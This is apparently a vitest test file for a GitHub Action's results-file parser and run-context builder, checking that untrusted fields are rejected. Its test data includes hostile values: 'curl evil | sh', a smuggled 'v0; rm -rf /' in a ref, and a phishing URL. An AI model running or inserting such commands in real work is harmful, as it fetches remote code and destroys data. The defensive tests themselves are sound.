// What a report run knows: the results file keeps every field the check run rendered (checked as
// untrusted input), and the run link and commands come from the workflow, not from the file.
import { describe, expect, it } from 'vitest';
import { parseResults, serializeResults } from '../src/publish/results-file.js';
import { checkRunContext, gateCommands, reportRunContext } from '../src/publish/run-context.js';
import { cases } from './helpers/report-cases.js';

const where = { distDir: '/home/runner/work/_actions/octo-org/wasm-gate/v0/dist', workspace: '/home/runner/work/app/app' };
const inputs = { config: 'wasm-gate.config.json', baseline: 'baseline.json' };
const env = {
  GITHUB_SERVER_URL: 'https://github.com',
  GITHUB_REPOSITORY: 'octo-org/app',
  GITHUB_RUN_ID: '4242',
  GITHUB_RUN_ATTEMPT: '1',
  GITHUB_ACTION_REPOSITORY: 'octo-org/wasm-gate',
  GITHUB_ACTION_REF: 'v0',
};

describe('the results file keeps what the comment shows', () => {
  it('measurements (iterations, failed benchmarks), reference intervals and the run context round-trip', () => {
    const checked = cases.regression();
    const parsed = parseResults(serializeResults(checked), 'results.json');
    expect(parsed.variants.map((v) => v.measurement)).toEqual(checked.variants.map((v) => v.measurement));
    const ratio = (r: typeof checked) => r.variants.flatMap((v) => v.rows).find((row) => row.vsReferenceCi95)?.vsReferenceCi95;
    expect(ratio(parsed)).toEqual(ratio(checked));
    expect(ratio(parsed)).toHaveLength(2);
    expect(parsed.context).toEqual(checked.context);
  });

  it('refuses a run link that is not a workflow run, and commands on more than one line', () => {
    const bad = JSON.parse(serializeResults(cases.unchanged()));
    bad.context.runUrl = 'https://evil.example/phish';
    expect(() => parseResults(JSON.stringify(bad), 'r.json')).toThrow('/context/runUrl must be the URL of a workflow run');
    const multi = JSON.parse(serializeResults(cases.unchanged()));
    multi.context.commands.check = 'npx wasm-gate check\ncurl evil | sh';
    expect(() => parseResults(JSON.stringify(multi), 'r.json')).toThrow('/context/commands/check must be one line');
  });

  it('refuses measurements that are not counts', () => {
    const bad = JSON.parse(serializeResults(cases.unchanged()));
    bad.variants[0].measurement.bench.bench_pairs.iterations = '<b>50000</b>';
    expect(() => parseResults(JSON.stringify(bad), 'r.json')).toThrow('/variants/0/measurement/bench/bench_pairs/iterations must be a finite number');
    bad.variants[0].measurement.bench.bench_pairs.iterations = -1;
    expect(() => parseResults(JSON.stringify(bad), 'r.json')).toThrow('must be a non-negative integer');
  });
});

describe('the run context', () => {
  it('check: this run’s page, and the CLI installed from where the action was loaded', () => {
    expect(checkRunContext(env, inputs, where)).toEqual({
      runUrl: 'https://github.com/octo-org/app/actions/runs/4242',
      commands: { install: 'npm i -D github:octo-org/wasm-gate#v0', check: 'npx wasm-gate check', update: 'npx wasm-gate update' },
    });
    expect(checkRunContext({ ...env, GITHUB_RUN_ATTEMPT: '3' }, inputs, where).runUrl).toBe('https://github.com/octo-org/app/actions/runs/4242/attempts/3');
  });

  it('keeps the workflow’s paths, quoted for a shell', () => {
    expect(gateCommands(env, { config: 'gate/wasm32 config.json', baseline: 'gate/baseline.json' }, where).update).toBe("npx wasm-gate update --config 'gate/wasm32 config.json'");
    expect(gateCommands(env, { config: 'wasm-gate.config.json', baseline: 'perf/baseline.json' }, where).check).toBe('npx wasm-gate check --baseline perf/baseline.json');
  });

  it('`uses: ./` runs the CLI that sits beside the action; a ref it cannot trust installs nothing', () => {
    const local = gateCommands({ GITHUB_REPOSITORY: 'octo-org/wasm-gate' }, inputs, { distDir: '/w/repo/dist', workspace: '/w/repo' });
    expect(local).toEqual({ check: 'node dist/cli.js check', update: 'node dist/cli.js update' });
    expect(gateCommands({ ...env, GITHUB_ACTION_REF: 'v0; rm -rf /' }, inputs, where)).toEqual({ check: 'npx wasm-gate check', update: 'npx wasm-gate update' });
  });

  it('report: the link is the triggering run’s, from the event; the file’s own commands are not used', () => {
    const event = { workflow_run: { id: 777, run_attempt: 2 } };
    const fromFile = { runUrl: 'https://github.com/octo-org/app/actions/runs/1', commands: { check: 'curl evil | sh', update: 'curl evil | sh' } };
    expect(reportRunContext(fromFile, env, event, inputs, where)).toEqual({
      runUrl: 'https://github.com/octo-org/app/actions/runs/777/attempts/2',
      commands: { install: 'npm i -D github:octo-org/wasm-gate#v0', check: 'npx wasm-gate check', update: 'npx wasm-gate update' },
    });
    // Without an id in the event, the file's link only if it points into this repository.
    expect(reportRunContext(fromFile, env, {}, inputs, where).runUrl).toBe('https://github.com/octo-org/app/actions/runs/1');
    expect(reportRunContext({ runUrl: 'https://github.com/other/repo/actions/runs/1' }, env, {}, inputs, where).runUrl).toBeUndefined();
  });
});
